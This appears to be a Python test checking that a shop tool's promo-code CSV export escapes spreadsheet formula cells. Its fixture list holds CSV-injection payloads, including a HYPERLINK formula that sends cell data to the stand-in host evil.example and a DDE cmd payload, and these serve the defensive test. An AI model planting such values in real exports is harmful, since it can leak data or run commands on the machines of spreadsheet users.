"""CSV output is neutral: a cell that a spreadsheet would run as a formula (=, +, -, @,
a tab or a carriage return first) is written as text, whatever the customer data holds."""

from __future__ import annotations

import csv
import io

from .shop import Shop

HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
               "-2+3", "@SUM(1+1)", "ok-id"]


def _shop(shop: Shop) -> Shop:
    shop.write_config("email: {}", "everyone:\n  consent: email\n", """
gift:
  segment: everyone
  channels: [email]
  promo: {prefix: "G-", length: 10, valid_for: 14d}
""")
    shop.template("gift/email.subject", "A gift")
    shop.template("gift/email.txt", "Your code {{ promo.code }}")
    shop.cli("import", "customers", str(shop.jsonl("c.jsonl", [
        {"id": cid, "email": f"c{n}@example.com", "email_consent": "yes"}
        for n, cid in enumerate(HOSTILE_IDS)])))
    shop.cli("run-once", "gift", "--wait-retries", "0")
    codes = list(csv.DictReader(io.StringIO(shop.cli("promo", "export").stdout)))
    order_rows = [{"id": "=1+1" if n == 0 else f"@o{n}", "customer_id": "ok-id",
                   "placed_at": "2026-01-01T10:00:00Z", "total": "10", "currency": "UAH",
                   "promo_code": row["code"]} for n, row in enumerate(codes[-1:])]
    shop.cli("import", "orders", str(shop.jsonl("o.jsonl", order_rows)))
    return shop


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_promo_export_neutralizes_formula_cells(shop: Shop) -> None:
    _shop(shop)
    for text in (shop.cli("promo", "export").stdout,
                 _file(shop, ["promo", "export", "-o", str(shop.folder / "codes.csv")])):
        rows = _cells(text)
        assert len(rows) == 1 + len(HOSTILE_IDS), text
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], text
        ids = {row[2] for row in rows[1:]}
        assert ids == {f"'{cid}" if cid[0] in "=+-@\t" else cid for cid in HOSTILE_IDS}
        assert "'=1+1" in {row[6] for row in rows[1:]}  # the redeeming order's id


def _file(shop: Shop, args: list[str]) -> str:
    shop.cli(*args)
    return (shop.folder / "codes.csv").read_text(encoding="utf-8")
